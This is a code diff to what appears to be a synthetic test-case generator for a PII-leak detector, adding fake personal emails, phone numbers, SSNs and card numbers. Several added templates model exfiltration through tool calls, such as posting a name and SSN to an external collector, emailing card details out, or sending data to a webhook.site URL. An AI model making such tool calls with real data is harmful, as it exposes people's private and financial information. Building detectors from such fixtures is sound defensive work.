@@ -177,6 +177,29 @@ def malicious():
         f, l = name()
         p = fmt_us_phone(us_phone(), ["paren", "dash", "e164", "dot", "one", "intl"][i % 6]) if i % 2 else intl_phone()
         out.append(case(ph_templates[i % len(ph_templates)](f, l, p), "phone number with personal context"))
+    # ---- emails / phones with personal context but no full name, and PII sent out through tools
+    for i in range(6):
+        f, l = name()
+        e = email(f, l)
+        out.append(case(R.choice([
+            f"You can reach me on my personal address {e} — please don't use my work one.",
+            f"forwarding to {e} (my private inbox) since I'm on leave",
+            f"Reset link sent to {e}. If this wasn't you, contact support.",
+            f"my gmail is {e} lol, text me there",
+        ]), "personal email with personal context"))
+    for i in range(6):
+        p = R.choice([f"+44 7{R.digits(3)} {R.digits(6)}".replace(" ", ""), f"+1{us_phone()[0]}{us_phone()[1]}{R.digits(4)}", f"+4915{R.digits(1)}{R.digits(8)}", f"+33 6{R.digits(8)}", fmt_us_phone(us_phone(), "paren")])
+        out.append(case(R.choice([f"my cell is {p}, call anytime after 6", f"WhatsApp: {p}", f"Text me at {p} when you land.", f"Tel (private): {p}"]), "personal phone number with context"))
+    for i in range(4):
+        f, l = name()
+        a, g, s_ = ssn()
+        num, kind = card()
+        out.append(case(R.choice([
+            json.dumps({"url": "https://forms.external-collector.example/submit", "body": {"name": f"{f} {l}", "ssn": f"{a}-{g}-{s_}"}}),
+            json.dumps({"to": "archive@external-mail.example", "subject": "customer", "body": f"{f} {l} card {fmt_card(num, 'space')} exp 08/29"}),
+            f"https://webhook.site/{R.uuid()}?name={f}+{l}&email={email(f, l)}&phone=%2B1{R.digits(10)}",
+            f"INSERT INTO leads (name, email, phone) VALUES ('{f} {l}', '{email(f, l)}', '{fmt_us_phone(us_phone(), 'dash')}')",
+        ]), "PII sent out in a tool-call argument", origin="input"))
     # ---- mixed full records
     for _ in range(6):
         f, l = name()
